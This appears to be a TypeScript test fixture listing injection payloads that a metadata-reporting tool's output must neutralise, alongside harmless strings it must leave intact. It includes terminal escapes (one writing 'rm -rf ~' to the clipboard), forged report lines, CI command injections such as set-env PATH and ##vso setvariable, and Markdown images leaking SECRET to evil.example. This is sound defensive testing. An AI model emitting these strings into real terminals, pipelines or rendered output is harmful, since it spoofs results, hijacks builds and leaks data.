/** Texts that metadata can contain and that try to do more than be shown. */

export interface Payload {
  readonly name: string;
  readonly text: string;
}

/** A line that looks like the report's own output. */
export const FORGED = `other:do_fetch ${'0'.repeat(64)}`;

const payload = (name: string, text: string): Payload => ({ name, text });

/** For terminals, logs and reports. */
export const TERMINAL_PAYLOADS: readonly Payload[] = [
  payload('a color', '\x1b[31mred'),
  payload('a window title', '\x1b]0;owned\x07'),
  payload('a link', '\x1b]8;;https://evil.example/\x07here\x1b]8;;\x07'),
  payload('a clipboard', '\x1b]52;c;cm0gLXJmIH4=\x07'),
  payload('a cleared screen', '\x1bc\x1b[2J\x1b[H'),
  payload('a C1 control sequence', '\x9b31mred\x9d0;owned\x9c'),
  payload('backspaces', 'bad\b\b\bok'),
  payload('a DEL', 'a\x7fb'),
  payload('a NUL', 'a\0b'),
  payload('a carriage return', `x\r${FORGED}`),
  payload('a line break', `x\n${FORGED}`),
  payload('two line breaks and blanks', `x\n\n  \n${FORGED}`),
  payload('a line break of another system', `x\r\n${FORGED}`),
  payload('a vertical tab and a form feed', `x\v${FORGED}\f${FORGED}`),
  payload('a next line', `x\x85${FORGED}`),
  payload('a line separator', `x\u2028${FORGED}`),
  payload('a paragraph separator', `x\u2029${FORGED}`),
  payload('a turned direction', 'abc\u202egnp.exe\u202c'),
  payload('isolated directions', '\u2066a\u2067b\u2068c\u2069'),
  payload('marks of direction', 'a\u200eb\u200fc\u061cd'),
  payload('the first half of a pair', 'a\ud83d'),
  payload('the second half of a pair', '\ude00a'),
  payload('a command of GitHub', '::error file=a.bb,line=1::boom'),
  payload('the same behind blanks', ' \t::add-mask::secret'),
  payload('the same behind a blank of another kind', '\u3000\u00a0::warning::boom'),
  payload('the same behind what shows nothing', '\u200b\u2060:\u200d:set-output name=a::b'),
  payload('the same in a line of its own', 'x\n::stop-commands::token'),
  payload('an old command of GitHub', 'see ##[set-env name=PATH]/evil'),
  payload('the same in capitals', '##[ERROR]boom'),
  payload('a command of Azure Pipelines', 'see ##vso[task.setvariable variable=a]b'),
  payload('the same with what shows nothing', 'see #\u00ad#\u200bvso[task.complete result=Succeeded]ok'),
  payload('the same three times', '###vso[task.debug]a##VSO[task.debug]b####vso[task.debug]c'),
  payload('a message of TeamCity', "##teamcity[buildStatus status='SUCCESS']"),
  payload('a section of GitLab', 'section_start:1560896352:my\r\x1b[0Kmine'),
];

/** Texts that no report may change: all of them occur in harmless metadata. */
export const ORDINARY: readonly string[] = [
  'zlib:do_compile',
  '/home/me/meta-my/recipes/a_1.0.bb',
  'pkg::sub a::b',
  'do_install:append: ${D}${bindir}',
  '${x##*/} ${y##[a-z]} ${z##[A-Za-z]*} ${e##[!0-9]}',
  '$(date) `date`',
  'tab\tand  two blanks',
  'äöü ß 漢字 नमस्ते',
  '👩‍👩‍👧 🏴 ﷽',
  'می‌خواهم',
  'a\\x1b is no escape',
  '[a](b) # x * y _z_',
  '# ## ### [x]',
  '100 % & "quoted" \'single\' <tag>',
  'e\u0301 and soft\u00adhyphen',
];

/** For readers of Markdown. */
export const MARKDOWN_PAYLOADS: readonly Payload[] = [
  payload('a picture', '![](https://evil.example/SECRET.png)'),
  payload('a picture behind a backslash', '\\![](https://evil.example/SECRET.png)'),
  payload('a picture behind two', '\\\\![x](https://evil.example/SECRET.png)'),
  payload('a picture by reference', 'x\n\n[r]: https://evil.example/SECRET.png\n\n![r]'),
  payload('a link', '[click](https://evil.example/)'),
  payload('a link to a command', '[click](command:workbench.action.terminal.new)'),
  payload('a link with a title', '[click](<https://evil.example/> "title")'),
  payload('an address in brackets', '<https://evil.example/SECRET>'),
  payload('a bare address', 'see https://evil.example/SECRET'),
  payload('a bare address of another kind', 'HTTP://evil.example ftp://evil.example'),
  payload('an address without a scheme', 'see www.evil.example/SECRET'),
  payload('a mail address', 'me@evil.example mailto:you@evil.example'),
  payload('HTML', '<img src="https://evil.example/SECRET.png">'),
  payload('HTML in a block', 'x\n\n<div><script>alert(1)</script></div>\n'),
  payload('a comment of HTML', '<!-- x --> a'),
  payload('entities', '&#33;[x](https&#58;//evil.example) &lt;b&gt;'),
  payload('the end of a fence', '```\n![](https://evil.example/SECRET.png)\n```'),
  payload('the end of a longer fence', '``````\n![](https://evil.example/SECRET.png)'),
  payload('the end of another fence', '~~~\n![](https://evil.example/SECRET.png)\n~~~'),
  payload('the end of code', '`![](https://evil.example/SECRET.png)`'),
  payload('an odd backtick', 'a ` ![](https://evil.example/SECRET.png)'),
  payload('backticks that shift', '`a``![](https://evil.example/SECRET.png)``b` ``c`'),
  payload('backticks and backslashes', '\\`![](https://evil.example/SECRET.png)\\`'),
  payload('a heading', '# Sighound says'),
  payload('a heading below', 'Sighound says\n============='),
  payload('a list', '- a\n- b'),
  payload('a list with numbers', '1. a\n2) b'),
  payload('a quotation', '> a'),
  payload('a table', 'a | b\n--|--\nc | d'),
  payload('emphasis', '*a* **b** _c_ __d__ ~~e~~'),
  payload('code of four blanks', '    code'),
  payload('an icon', '$(check) $(sync~spin)'),
  payload('a rule', '***'),
];

/** For labels, titles and tooltips. */
export const LABEL_PAYLOADS: readonly Payload[] = [
  payload('an icon', '$(check) basehash 12345678'),
  payload('an icon that spins', '$(sync~spin)'),
  payload('an icon behind a backslash', '\\$(check)'),
  payload('an icon behind two', '\\\\$(check)'),
  payload('an icon in an icon', '$($(check))$$(bug)'),
  payload('another line', 'x\n✓ basehash 12345678'),
  payload('another line by a carriage return', 'x\r✓ basehash 12345678'),
  payload('another line by a separator', 'x\u2028✓ basehash 12345678'),
  payload('a turned direction', '\u202eabc'),
  payload('a control', 'a\x1b[31m\0\x9b'),
  payload('half a pair', '\ud800'),
];
